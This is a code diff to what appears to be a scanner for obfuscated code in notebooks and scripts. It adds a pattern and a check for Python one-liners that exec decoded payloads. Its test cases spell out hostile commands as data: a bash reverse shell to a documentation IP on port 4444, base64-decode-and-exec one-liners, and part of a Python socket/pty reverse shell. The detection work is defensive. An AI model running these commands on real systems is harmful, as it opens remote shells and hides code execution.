@@ -91,6 +91,7 @@ _REVERSE = lazy(
 _DECODES = lazy(
     r"decode|decompress|marshal|fromhex|unhexlify|a2b_|decrypt|__import__|dup2|\\x[0-9a-f]{2}"
 )
+_RUNS_DECODED = lazy(r"\b(?:exec|eval)\s*\([^\n]*(?:decode|decompress|fromhex|marshal)")
 _LONG = 400  # characters of a literal that nobody reads
 _BLOB = lazy(r"[A-Za-z0-9+/=\\x\s]+")
 
@@ -132,6 +133,10 @@ _BLOB = lazy(r"[A-Za-z0-9+/=\\x\s]+")
             "%%bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
             at="bash -i >& /dev/tcp/203.0.113.5/4444",
         ),
+        Bad(
+            "!python -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
+            at="python -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
+        ),
         Bad("!echo aWQ= | base64 -d | sh", at="echo aWQ= | base64 -d | sh"),
         Bad(
             "import os, socket, pty\ns = socket.socket()\ns.connect((h, p))\n"
@@ -162,6 +167,10 @@ def obfuscated_code(view: View) -> Iterator[Hit]:
         if reverse:
             reported = line.end
             yield Hit(Span(line.start, reverse.end()), _SHELL)
+        elif program(command).startswith("python") and any(
+            _RUNS_DECODED.search(word.text) for word in command.argv[1:]
+        ):
+            yield Hit(command.span, _DECODED)
         elif program(command) in ("base64", "xxd") and _decodes([w.text for w in command.argv]):
             after = commands[number + 1 : number + 2]
             if command.operator == "|" and after and program(after[0]) in _INTERPRETERS:
